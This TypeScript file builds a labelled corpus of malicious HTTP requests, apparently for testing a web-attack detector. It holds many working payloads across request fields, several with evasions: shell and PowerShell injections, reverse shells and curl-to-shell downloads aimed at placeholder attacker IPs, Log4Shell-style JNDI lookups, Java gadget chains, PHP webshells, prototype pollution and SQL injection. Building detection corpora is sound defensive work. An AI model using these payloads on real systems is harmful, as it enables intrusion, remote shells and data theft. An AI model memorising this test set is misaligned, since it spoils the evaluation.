/**
 * Blind attack set 6 (session 35, at35): issue 14's attack families written by hand from knowledge of each
 * class (no payload list), placed where attackers put them (query, form, nested JSON and arrays, multipart
 * fields and file names, headers, cookies, path segments, XML, GraphQL variables) and evaded as they evade
 * (case, comments, percent/double/unicode encodings, concatenation, whitespace substitutes, base64).
 * Written and committed before anything was measured on it (DEVELOPERS.md, "Blind sets").
 *
 *   npx tsx datasets/blind-probes/set-6.ts > datasets/blind-probes/set-6.ndjson
 *   warden eval --per-request --corpus datasets/blind-probes/set-6.ndjson
 *
 * Records: `source: blind-6`, `label: attack`, `category: <family>`, ids `bp6/<family>/<n>`.
 */
import type { RequestRecord } from '../../src/eval/record.js';

const HOST = 'app.example.test';
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'curl/8.9.1',
  'python-requests/2.31.0',
  'Go-http-client/2.0',
  'okhttp/4.12.0',
  'Wget/1.21.4',
];

const records: RequestRecord[] = [];
const counters = new Map<string, number>();

/** Percent-encodes as a browser's form or a client library does; `strict` also takes `!'()*`. */
function enc(text: string, strict = false): string {
  const e = encodeURIComponent(text);
  return strict ? e.replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`) : e;
}
const formEnc = (text: string): string => enc(text, true).replace(/%20/g, '+');
const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const b64utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
/** Every character as \uXXXX, as a JSON encoder told to escape everything writes it. */
const uEsc = (text: string): string => [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

interface Opts {
  headers?: Record<string, string>;
  ua?: string;
}

function push(category: string, method: string, path: string, query: string, body: string | undefined, opts: Opts & { ctype?: string } = {}, bodyEncoding?: 'base64'): void {
  const n = counters.get(category) ?? 0;
  counters.set(category, n + 1);
  const headers: Record<string, string> = {
    Host: HOST,
    'User-Agent': opts.ua ?? UAS[(records.length * 7) % UAS.length],
    Accept: '*/*',
    'Accept-Language': 'en-US,en;q=0.9',
  };
  if (opts.ctype) headers['Content-Type'] = opts.ctype;
  Object.assign(headers, opts.headers ?? {});
  const r: RequestRecord = { id: `bp6/${category}/${n}`, source: 'blind-6', label: 'attack', category, method, path, query, headers };
  if (body !== undefined) r.body = body;
  if (bodyEncoding) r.bodyEncoding = bodyEncoding;
  records.push(r);
}

/** GET with the query built from pairs; a value given as [raw] is sent as written (its writer encoded it). */
function q(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const query = pairs.map(([k, v]) => `${enc(k)}=${Array.isArray(v) ? v[0] : enc(v)}`).join('&');
  push(cat, 'GET', path, query, undefined, opts);
}
function form(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const body = pairs.map(([k, v]) => `${formEnc(k)}=${Array.isArray(v) ? v[0] : formEnc(v)}`).join('&');
  push(cat, 'POST', path, '', body, { ...opts, ctype: 'application/x-www-form-urlencoded' });
}
function json(cat: string, path: string, doc: unknown, opts: Opts & { method?: string } = {}): void {
  const body = typeof doc === 'string' ? doc : JSON.stringify(doc);
  push(cat, opts.method ?? 'POST', path, '', body, { ...opts, ctype: 'application/json' });
}
function gql(cat: string, query: string, variables: Record<string, unknown>, opts: Opts = {}): void {
  push(cat, 'POST', '/graphql', '', JSON.stringify({ operationName: null, query, variables }), { ...opts, ctype: 'application/json' });
}
function xml(cat: string, path: string, text: string, opts: Opts & { ctype?: string } = {}): void {
  push(cat, 'POST', path, '', text, { ...opts, ctype: opts.ctype ?? 'application/xml' });
}
interface Part { name: string; filename?: string; type?: string; content: string }
function mp(cat: string, path: string, parts: Part[], opts: Opts = {}): void {
  const b = '----WebKitFormBoundaryAt35s6Qz9Lk';
  const body =
    parts
      .map((p) => {
        const disp = `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
        return `--${b}\r\n${disp}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n${p.content}\r\n`;
      })
      .join('') + `--${b}--\r\n`;
  push(cat, 'POST', path, '', body, { ...opts, ctype: `multipart/form-data; boundary=${b}` });
}
function hdr(cat: string, path: string, headers: Record<string, string>, query = ''): void {
  push(cat, 'GET', path, query, undefined, { headers, ua: headers['User-Agent'] });
}
function get(cat: string, path: string, query = '', opts: Opts = {}): void {
  push(cat, 'GET', path, query, undefined, opts);
}

// ---------------------------------------------------------------- shell: substitution, expansion, here-strings
{
  const c = 'shell';
  q(c, '/api/net/traceroute', [['target', '10.20.0.5;echo$IFS$9$(id)']]);
  q(c, '/api/net/traceroute', [['target', '10.20.0.5\r\n/usr/bin/id']]);
  form(c, '/admin/dns/check', [['zone', 'corp.example.org$(</etc/passwd)']]);
  json(c, '/api/v3/devices/probe', { device: { mgmt: { host: '10.1.1.1;w\\ho\\am\\i' } } });
  q(c, '/cgi-bin/lookup', [['n', 'x;cat${IFS}${HOME::1}etc${HOME::1}hostname']]);
  form(c, '/admin/tools/exec', [['arg', 'a.txt;bash<<<$(base64 -d<<<aWQ=)']]);
  q(c, '/api/net/ping', [['ip', '8.8.4.4|$(rev<<<\'imaohw\')']]);
  json(c, '/api/jobs', { name: 'nightly', steps: ['tar czf out.tgz data', 'a=ca;b=t;$a$b /etc/group'] });
  form(c, '/support/diag', [['host', 'h1;{nc,-e,/bin/sh,203.0.113.9,4444}']]);
  q(c, '/api/net/ping', [['ip', '127.0.0.1;/usr/bin/[w]ho[a]mi']]);
  q(c, '/api/net/ping', [['ip', '127.0.0.1&&w$@hoami']]);
  json(c, '/api/convert', { src: 'in.docx', dst: 'out.pdf;bash <(curl -s http://203.0.113.21/i)' });
  q(c, '/api/net/ping', [['ip', ['1.2.3.4%26%26sleep%24%7BIFS%7D7']]]);
  mp(c, '/api/hosts/register', [{ name: 'hostname', content: 'node7`curl 203.0.113.4/$(hostname)`' }, { name: 'port', content: '22' }]);
  hdr(c, '/status', { 'X-Forwarded-For': '127.0.0.1;$(id>/tmp/o)' });
  get(c, '/api/v1/hosts/8.8.8.8%7C%7Cuname%20-a/check');
  xml(c, '/rpc/backup', '<?xml version="1.0"?><backup><dir>/var/data$(sleep 7)</dir><mode>full</mode></backup>');
  gql(c, 'mutation Ping($h: String!) { diagnostics { ping(host: $h) { ok } } }', { h: '1.1.1.1 && curl -d @/etc/passwd 203.0.113.6' });
  q(c, '/api/net/ping', [['ip', ['8.8.8.8%253Bid']]]);
  form(c, '/admin/logs/tail', [['file', 'app.log;cat\t/etc/issue.net']]);
  json(c, '/api/tasks/run', { cmd: 'report', args: ['--since', '1d;echo${IFS}aWQ=|base64${IFS}-d|bash'] });
  json(c, '/api/search/files', { root: '/srv/share', args: ['-name', '*.log', '-exec', 'sh', '-c', 'id', ';'] });
  form(c, '/admin/repos/mirror', [['url', 'ssh://-oProxyCommand=touch${IFS}/tmp/p/x']]);
  q(c, '/tools/resolve', [['name', 'x;echo id|$0']]);
  form(c, '/api/image/resize', [['geometry', '640x480$((7*191))`uname`']]);
}

// ---------------------------------------------------------------- script one-liners: Perl, Python, Ruby, awk, Lua, PHP CLI
{
  const c = 'script';
  form(c, '/admin/tools/exec', [['arg', 'x; python3 -c \'import pty;pty.spawn("/bin/bash")\'']]);
  json(c, '/api/hooks/test', { command: 'perl -MIO::Socket -e \'$c=new IO::Socket::INET(PeerAddr,"203.0.113.8:443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'' });
  q(c, '/cgi-bin/run', [['c', 'x|ruby -e \'puts %x(id)\'']]);
  form(c, '/api/report/filter', [['expr', 'a;perl -e \'print `cat /etc/passwd`\'']]);
  q(c, '/tools/ping', [['host', "8.8.8.8;awk 'BEGIN{system(\"id\")}'"]]);
  json(c, '/api/plugins/exec', { script: "x;lua -e 'os.execute(\"id\")'" });
  form(c, '/admin/tools/exec', [['arg', 'a && php -r \'$s=fsockopen("203.0.113.8",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'']]);
  q(c, '/cgi-bin/run', [['c', `x;python -c "exec(__import__('base64').b64decode('${b64('import os;os.system("id")')}'))"`]]);
  json(c, '/api/notebook/cell', { cell: { src: "getattr(__import__('o'+'s'),'sy'+'stem')('id')" } });
  form(c, '/admin/tools/exec', [['arg', 'x; ruby -rnet/http -e \'Net::HTTP.get(URI("http://203.0.113.8/?"+File.read("/etc/passwd")))\'']]);
  q(c, '/tools/ping', [['host', 'h;perl -e \'use MIME::Base64;eval(decode_base64("c3lzdGVtKCJpZCIp"))\'']]);
  json(c, '/api/jobs', { hook: 'python3 -c "import subprocess;subprocess.run([\'id\'])"' });
  mp(c, '/api/scripts/upload', [{ name: 'runner', content: "x;perl -E 'say qx{id}'" }]);
  hdr(c, '/api/health', { 'User-Agent': '$(python3 -c "import urllib.request as u;u.urlopen(\'http://203.0.113.8/\'+open(\'/etc/hostname\').read())")' });
}

// ---------------------------------------------------------------- PowerShell
{
  const c = 'powershell';
  form(c, '/admin/run', [['arg', `x; pwsh -NoP -NonI -Enc ${b64utf16('whoami /priv')}`]]);
  q(c, '/tools/ping', [['host', "127.0.0.1|powershell \"&('i'+'ex') ((New-Object Net.WebClient).DownloadString('http://203.0.113.31/p'))\""]]);
  json(c, '/api/reports/export', { printer: 'x; powershell -c "$x=[char]105+[char]101+[char]120;&$x \'whoami\'"' });
  form(c, '/admin/run', [['arg', 'a; Start-BitsTransfer -Source http://203.0.113.32/u.exe -Destination C:\\Users\\Public\\u.exe']]);
  q(c, '/tools/resolve', [['n', "x|i`e`x (n`ew-obj`ect Net.WebClient).DownloadString('http://203.0.113.33/s')"]]);
  json(c, '/api/admin/task', { cmd: "[System.Diagnostics.Process]::Start('cmd.exe','/c whoami')" });
  form(c, '/admin/run', [['arg', 'x; Invoke-RestMethod -Uri http://203.0.113.34 -Method Post -Body (Get-Content C:\\Windows\\win.ini)']]);
  q(c, '/tools/ping', [['host', '127.0.0.1; Set-MpPreference -DisableRealtimeMonitoring $true']]);
  form(c, '/admin/run', [['arg', 'x & powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File \\\\203.0.113.35\\share\\p.ps1']]);
  json(c, '/api/v2/agents/cmd', { line: "$s=New-Object Net.Sockets.TCPClient('203.0.113.36',443);$t=$s.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$t.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}" });
  q(c, '/tools/ping', [['host', `8.8.8.8 | POWERSHELL.EXE -eNcOdEdCoMmAnD ${b64utf16('iwr http://203.0.113.37/a -o a.exe')}`]]);
  mp(c, '/api/import/script', [{ name: 'pre', content: "[Reflection.Assembly]::Load([Convert]::FromBase64String((iwr 'http://203.0.113.38/b').Content))" }]);
  form(c, '/admin/run', [['arg', "x; sal z iex; z(irm 203.0.113.39/r)"]]);
  hdr(c, '/api/status', { 'X-Client-Tool': "'; powershell -w 1 -c \"gci env: | % { irm ('http://203.0.113.31/?'+$_.Value) }\"" });
}

// ---------------------------------------------------------------- Windows cmd syntax and escapes
{
  const c = 'windows-cmd';
  q(c, '/tools/ping', [['host', '127.0.0.1&who""ami']]);
  form(c, '/admin/run', [['arg', 'x & %SystemRoot%\\System32\\cmd.exe /k dir C:\\']]);
  q(c, '/tools/ping', [['host', '127.0.0.1 & c%PUBLIC:~-5,1%d /c ver']]);
  form(c, '/admin/run', [['arg', 'x && wmic process call create "cmd /c calc"']]);
  json(c, '/api/reports/export', { printer: 'PDF | findstr /si password *.config' });
  q(c, '/tools/resolve', [['n', 'x & type %WINDIR%\\win.ini']]);
  form(c, '/admin/run', [['arg', 'x & net localgroup administrators eve /add']]);
  json(c, '/api/admin/task', { name: 'cleanup', arg: 'x & schtasks /create /sc minute /tn up /tr "C:\\Users\\Public\\u.exe"' });
  q(c, '/tools/ping', [['host', '127.0.0.1 & regsvr32 /s /n /u /i:http://203.0.113.40/f.sct scrobj.dll']]);
  form(c, '/admin/run', [['arg', 'x & certutil -decode C:\\Users\\Public\\a.b64 C:\\Users\\Public\\a.exe']]);
  q(c, '/tools/ping', [['host', '127.0.0.1 && vssadmin delete shadows /all /quiet']]);
  form(c, '/admin/run', [['arg', 'x & forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe']]);
  json(c, '/api/printers/test', { queue: 'x & cmd /c "set x=who& call %x%ami"' });
  mp(c, '/api/tools/upload', [{ name: 'target', content: 'x & echo ^<%@ Page Language="C#" %^>^<%= System.Diagnostics.Process.Start("cmd","/c "+Request["c"]) %^> > C:\\inetpub\\wwwroot\\s.aspx' }]);
  q(c, '/tools/ping', [['host', ['127.0.0.1%26%5Et%5Ey%5Ep%5Ee%20C%3A%5Cboot.ini']]]);
}

// ---------------------------------------------------------------- JVM: reflection class names and gadget chains
{
  const c = 'jvm-reflect';
  json(c, '/api/settings', { '@class': 'org.springframework.context.support.ClassPathXmlApplicationContext', configLocation: 'http://203.0.113.50/x.xml' });
  json(c, '/api/widgets', { w: { '@type': 'org.apache.xbean.propertyeditor.JndiConverter', asText: 'ldap://203.0.113.50:1389/o' } });
  json(c, '/api/widgets', '["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://203.0.113.51:1389/x"}]');
  json(c, '/api/widgets', '{"x":{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://203.0.113.52/o","autoCommit":true}}');
  json(c, '/api/widgets', '{"\\u0040\\u0074ype":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.52/a","autoCommit":true}');
  q(c, '/api/eval', [['expr', 'Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")']]);
  form(c, '/admin/console', [['script', '"id".execute().text']]);
  json(c, '/api/import/yaml', { yaml: '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.53/"]]]]' });
  push(c, 'POST', '/api/config/import', '', 'app:\n  handler: !!com.sun.rowset.JdbcRowSetImpl\n    dataSourceName: ldap://203.0.113.54/x\n    autoCommit: true\n', { ctype: 'application/x-yaml' });
  xml(c, '/api/objects', '<java.util.PriorityQueue serialization="custom"><unserializable-parents/><java.util.PriorityQueue><default><size>2</size><comparator class="org.apache.commons.beanutils.BeanComparator"><property>outputProperties</property></comparator></default></java.util.PriorityQueue></java.util.PriorityQueue>');
  q(c, '/api/lookup', [['type', 'org.codehaus.groovy.runtime.MethodClosure']]);
  form(c, '/script', [['script', 'def p = ["bash","-c","id"].execute(); println p.text']]);
  json(c, '/api/rules', { when: 'x', then: 'java.lang.Class.forName("java.lang.Run"+"time").getMethod("getRuntime").invoke(null).exec("id")' });
  hdr(c, '/api/v1/objects', { 'X-Object-Type': 'java.lang.ProcessBuilder', 'X-Object-Args': 'bash,-c,id' });
}

// ---------------------------------------------------------------- JVM expression languages: OGNL, SpEL, EL, MVEL, JEXL
{
  const c = 'jvm-el';
  push(c, 'POST', '/struts2/upload.action', '', 'x', {
    ctype: "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#ct=#context['com.opensymphony.xwork2.ActionContext.container']))).(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}",
  });
  get(c, `/struts2-showcase/${enc("${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}")}/actionChain1.action`);
  get(c, `/${enc('${Class.forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")}', true)}/`);
  json(c, '/actuator/gateway/routes/r1', { id: 'r1', filters: [{ name: 'AddResponseHeader', args: { name: 'X-R', value: '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}' } }], uri: 'http://example.org' });
  q(c, '/api/greeting', [['name', "#{T (java.lang.String).forName('java.lang.Runtime').getMethod('exec',T(String)).invoke(T(java.lang.String).forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"]]);
  form(c, '/app/search', [['q', "#{''.class.forName('java.lang.ProcessBuilder').getConstructors()[0]}"]]);
  form(c, '/jsf/profile.xhtml', [['nick', '#{request.getClass().getClassLoader()}']]);
  q(c, '/app/view', [['page', "${pageContext.servletContext.getResource('/WEB-INF/web.xml')}"]]);
  json(c, '/api/rules/mvel', { rule: "@{java.lang.Runtime.getRuntime().exec('id')}" });
  json(c, '/api/rules/jexl', { expression: "''.class.forName('java.lang.Runtime').getRuntime().exec('touch /tmp/j')" });
  get(c, `/doc/__${enc('${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}')}__::.x`);
  q(c, '/action/index.action', [['(#context["xwork.MethodAccessor.denyMethodExecution"]=new java.lang.Boolean(false))(#r=@java.lang.Runtime@getRuntime().exec("id"))', '1']]);
  form(c, '/app/message', [['text', "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"cat\",\"/etc/passwd\"})).redirectErrorStream(true).start()}"]]);
  gql(c, 'query T($t: String) { preview(template: $t) }', { t: "${T(java.lang.System).getProperty('user.dir')}${T(java.lang.Runtime).getRuntime().availableProcessors()}" });
  hdr(c, '/api/lang', { 'Accept-Language': "${@java.lang.Runtime@getRuntime().exec('id')}" });
  xml(c, '/ws/quote', '<?xml version="1.0"?><quote><formula>T(java.lang.Runtime).getRuntime().exec(&quot;nslookup x.oast.example&quot;)</formula></quote>');
}

// ---------------------------------------------------------------- JNDI lookups with nesting and lookup obfuscation
{
  const c = 'jndi';
  hdr(c, '/', { 'User-Agent': '${${lower:${lower:jndi}}:${lower:ldap}://203.0.113.60:1389/k}' });
  hdr(c, '/login', { Referer: "https://app.example.test/${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.60/a}" });
  hdr(c, '/api/ping', { 'X-Forwarded-For': '${j${k8s:k5:-ND}i:ldap://203.0.113.61/b}' });
  json(c, '/api/v1/feedback', { meta: { device: '${${sys:nope:-j}ndi:rmi://203.0.113.62:1099/c}' } });
  q(c, '/search', [['q', '${jndi:ldap://${env:USER}.${hostName}.oast.example/d}']]);
  q(c, '/search', [['q', ['%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.63%252Fe%257D']]]);
  json(c, '/api/v1/events', `{"type":"click","label":"${uEsc('${jndi:ldap://203.0.113.64/f}')}"}`);
  hdr(c, '/', { 'X-Api-Version': '${jndi:nis://203.0.113.65/g}', Cookie: 'sid=${jndi:nds://203.0.113.65/h}' });
  form(c, '/contact', [['email', 'a@b.c'], ['message', '${${upper:j}${lower:N}${upper:d}i:${lower:L}dap://203.0.113.66/i}']]);
  mp(c, '/upload', [{ name: 'file', filename: '${jndi:ldap://203.0.113.67/j}.png', type: 'image/png', content: 'PNGDATA' }]);
  get(c, `/api/users/${enc('${jndi:dns://x.oast.example/k}')}/profile`);
  gql(c, 'query U($n: String!) { user(name: $n) { id } }', { n: '${j${::-n}d${::-i}:ld${::-a}p://203.0.113.68/l}' });
  xml(c, '/ws/orders', '<?xml version="1.0"?><order><customer>${jndi:${lower:r}mi://203.0.113.69/m}</customer></order>');
  hdr(c, '/api/auth', { Authorization: `Basic ${b64('${jndi:ldap://203.0.113.70/n}:pw')}` });
  hdr(c, '/', { 'X-Forwarded-Host': '${${main:\\x:-j}ndi:ldaps://203.0.113.71/o}' });
  form(c, '/login', [['username', '${${::-$}{jndi:ldap://203.0.113.72/p}}'], ['password', 'x']]);
}

// ---------------------------------------------------------------- serialized-object markers (Java first, then other runtimes)
{
  const c = 'serialized';
  const javaStream = Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11]), Buffer.from('java.util.HashMap', 'latin1'), Buffer.from([0x05, 0x07, 0xda, 0xc1, 0xc3, 0x16, 0x60, 0xd1, 0x03, 0x00, 0x02])]);
  push(c, 'POST', '/remoting/Service', '', javaStream.toString('base64'), { ctype: 'application/x-java-serialized-object' }, 'base64');
  const b = javaStream.toString('base64');
  form(c, '/app/flow', [['_flowExecutionKey', 'e1s1'], ['state', b]]);
  json(c, '/api/cache/put', { key: 'k', value: b.replace(/\+/g, '-').replace(/\//g, '_') });
  hdr(c, '/api/session', { 'X-Auth-Token': b });
  q(c, '/api/objects/load', [['blob', javaStream.toString('hex').toUpperCase()]]);
  mp(c, '/api/import', [{ name: 'file', filename: 'state.bin', type: 'application/octet-stream', content: b }]);
  form(c, '/app/restore', [['data', Buffer.from(b).toString('base64')]]);
  q(c, '/jsf/home.xhtml', [['javax.faces.ViewState', ['rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAN0AAEx%2BcA%3D%3D']]]);
  form(c, '/default.aspx', [['__VIEWSTATE', 'AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I='], ['__EVENTTARGET', '']]);
  json(c, '/api/ml/model', { format: 'pickle', blob: Buffer.from([0x80, 0x04, 0x95, 0x1d, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0x05]).toString('base64') + Buffer.from('posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.', 'latin1').toString('base64') });
  hdr(c, '/account', { Cookie: `_app_session=${Buffer.concat([Buffer.from([0x04, 0x08]), Buffer.from('o:\x40Gem::Requirement\x06:\x10@requirements', 'latin1')]).toString('base64')}; theme=light` });
  xml(c, '/api/soap/state', '<?xml version="1.0"?><Envelope><Body><restore><blob>rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg==</blob></restore></Body></Envelope>');
}

// ---------------------------------------------------------------- PHP: open tags, dangerous functions and chains, ini, variable functions, webshells
{
  const c = 'php';
  mp(c, '/upload/avatar', [{ name: 'file', filename: 'me.php5', type: 'image/jpeg', content: '\xff\xd8\xff\xe0<?PhP passthru($_REQUEST["q"]); ?>' }]);
  mp(c, '/upload/avatar', [{ name: 'file', filename: 'cv.pht', type: 'application/pdf', content: '%PDF-1.4 <? system($_GET[x]) ?>' }]);
  mp(c, '/upload/docs', [{ name: 'doc', filename: 'notes.php.', type: 'text/plain', content: '<script language="php">echo shell_exec($_POST["z"]);</script>' }]);
  mp(c, '/upload/docs', [{ name: 'doc', filename: 'r.phar', type: 'application/octet-stream', content: '<?php __HALT_COMPILER(); ?>' }]);
  form(c, '/admin/theme/save', [['code', 'array_map("system", array("id"));']]);
  form(c, '/admin/theme/save', [['code', '$f=create_function("", "passthru(\\"id\\");");$f();']]);
  q(c, '/index.php', [['page', 'x";}$_GET[a]($_GET[b]);/*'], ['a', 'system'], ['b', 'id']]);
  form(c, '/api/preview', [['tpl', '${"_GET"}[0](${"_GET"}[1])']]);
  form(c, '/admin/theme/save', [['code', '"\\x73\\x79\\x73\\x74\\x65\\x6d"("uname -a");']]);
  form(c, '/admin/theme/save', [['code', 'str_rot13("flfgrz")("id");']]);
  form(c, '/admin/theme/save', [['code', 'strrev("metsys")(base64_decode("aWQ="));']]);
  json(c, '/api/settings', { snippet: 'ini_set("open_basedir","/");echo file_get_contents("/etc/passwd");' });
  form(c, '/admin/mail/test', [['hook', 'putenv("LD_PRELOAD=/tmp/x.so");mail("a@b.c","s","m");']]);
  mp(c, '/upload/theme', [{ name: 'file', filename: '.htaccess', type: 'text/plain', content: 'php_flag engine on\n<Files "logo.gif">\nSetHandler application/x-httpd-php\n</Files>' }]);
  form(c, '/comment', [['body', "<?php eval(gzinflate(base64_decode('S0ktLlEoLkksKikCAA=='))); ?>"]]);
  form(c, '/comment', [['body', '<?php @error_reporting(0);@set_time_limit(0);if(isset($_COOKIE["k"])){@eval($_COOKIE["k"]);} ?>']]);
  json(c, '/api/pages', { title: 'About', body: '<?=@preg_replace("/x/e",$_POST["c"],"x")?>' });
  form(c, '/wp-admin/admin-ajax.php', [['action', 'save'], ['data', 'move_uploaded_file($_FILES["f"]["tmp_name"],"wp-content/uploads/".$_FILES["f"]["name"]);']]);
  q(c, '/index.php', [['lang', ['%3C%3Fphp%20proc_open(%22id%22%2C%5B%5D%2C%24p)%3B']]]);
  hdr(c, '/index.php', { 'User-Agent': "<?php system('curl 203.0.113.80/s|sh'); ?>" }, 'page=/var/log/apache2/access.log');
  gql(c, 'mutation S($v: String!) { setOption(name: "footer", value: $v) }', { v: '<?php $x=$_SERVER["HTTP_X"];register_shutdown_function($x,"id"); ?>' });
  form(c, '/admin/theme/save', [['code', 'usort($_GET,"passthru");']]);
}

// ---------------------------------------------------------------- Node.js / server-side JS
{
  const c = 'node';
  json(c, '/api/calc', { expr: "require('child_process').spawn('sh',['-c','id'])" });
  q(c, '/api/calc', [['expr', "require('child_process').execFileSync('/usr/bin/id').toString()"]]);
  json(c, '/api/render', { tpl: 'x', data: { f: 'global.process.mainModule.constructor._load("child_process").fork("/tmp/x.js")' } });
  json(c, '/api/sandbox', { code: "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')" });
  q(c, '/api/calc', [['expr', "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('id')"]]);
  json(c, '/api/calc', { expr: "Object.getPrototypeOf(async function(){}).constructor('return process')().then(p=>p.kill(p.pid))" });
  form(c, '/profile', [['name', 'eve'], ['a[__proto__][isAdmin]', 'true']]);
  json(c, '/api/settings', { '__proto__.isAdmin': true, theme: 'dark' });
  q(c, '/products', [['__pro__proto__to__[admin]', '1']]);
  json(c, '/api/settings/merge', { constructor: { prototype: { execArgv: ["--eval=require('child_process').execSync('id')"] } } });
  json(c, '/api/objects/set', { path: '__proto__.polluted', value: 'yes' });
  json(c, '/api/objects/set', { path: ['constructor', 'prototype', 'shell'], value: 'node' });
  q(c, '/search', [['a.constructor.prototype.block', 'x']]);
  json(c, '/api/settings', `{"\\u005f\\u005fproto\\u005f\\u005f":{"NODE_OPTIONS":"--inspect=0.0.0.0:9229"}}`);
  q(c, '/api/calc', [['expr', '[][(![]+[])[!+[]+!![]+!![]]+([]+{})[+!![]]+(!![]+[])[+!![]]+(!![]+[])[+[]]][([]+{})[!+[]+!![]+!![]+!![]+!![]]+([]+{})[+!![]]+([][[]]+[])[+!![]]+(![]+[])[!+[]+!![]+!![]]+(!![]+[])[+[]]+(!![]+[])[+!![]]+([][[]]+[])[+[]]+([]+{})[!+[]+!![]+!![]+!![]+!![]]+(!![]+[])[+[]]+([]+{})[+!![]]+(!![]+[])[+!![]]]((!![]+[])[+!![]]+(!![]+[])[!+[]+!![]+!![]]+(!![]+[])[+[]]+([][[]]+[])[+[]]+(!![]+[])[+!![]]+([][[]]+[])[+!![]])()']]);
  json(c, '/api/calc', { expr: '[].constructor.constructor`a${`return process.mainModule.require("child_process").execSync("id")`}```' });
  hdr(c, '/profile', { Cookie: `profile=${b64('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}')}` });
  gql(c, 'mutation U($i: UserInput!) { updateUser(input: $i) { id } }', { i: { name: 'eve', constructor: { prototype: { isAdmin: true } } } });
  mp(c, '/api/templates', [{ name: 'helper', content: "this.constructor.constructor('return process')().mainModule.require('fs').writeFileSync('/tmp/p','x')" }]);
  q(c, '/render', [['layout', "x');process.binding('fs');//"], ['settings[view options][outputFunctionName]', "x;return global.process.mainModule.require('child_process').execSync('id');//"]]);
}

// ---------------------------------------------------------------- SQL without quotes or keywords in their usual places
{
  const c = 'sqli';
  q(c, '/products', [['id', '3-if(1,sleep(5),0)']]);
  q(c, '/products', [['id', '3*(select(0)from(select(sleep(6)))v)']]);
  q(c, '/products', [['sort', 'ELT(1,SLEEP(5))']]);
  q(c, '/products', [['id', '3;WAITFOR DELAY\'0:0:5\'']]);
  q(c, '/api/items', [['id', '4 AND 1=LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(500000000/2))))']]);
  form(c, '/report', [['year', '2024 AND 1=dbms_lock.sleep(5)']]);
  q(c, '/files', [['n', '1 UNION SELECT pg_read_file(current_setting(chr(100)||chr(97)||chr(116)||chr(97)||chr(95)||chr(100)||chr(105)||chr(114))||chr(47)||chr(46)||chr(46))']]);
  q(c, '/products', [['id', '-3 union select load_file(0x2f6574632f706173737764),2']]);
  json(c, '/api/export', { table: 'orders', where: 'id=1; COPY (SELECT 1) TO PROGRAM $$curl 203.0.113.90/x|sh$$' });
  q(c, '/products', [['id', '3 AND GTID_SUBSET(CONCAT(0x71,(SELECT USER()),0x71),1)']]);
  q(c, '/products', [['id', '3 AND EXP(~(SELECT * FROM (SELECT USER())a))']]);
  q(c, '/products', [['id', '3 && 2>1']]);
  q(c, '/products', [['id', '3 XOR 1']]);
  q(c, '/products', [['id', ['3%20%2F%2A%21AND%2A%2F%202%3D2']]]);
  q(c, '/products', [['id', ['3%A0and%A0ascii(mid(database(),1,1))>64']]]);
  form(c, '/login', [['user', '0x61646d696e'], ['pass', '1 or 2 in (2)']]);
  q(c, '/products', [['id', '3 and ord(mid(current_user,1,1))>100']]);
  q(c, '/products', [['id', ['3/*!12345uNiOn*//*!12345sElEcT*/1,group_concat(table_name),3']]]);
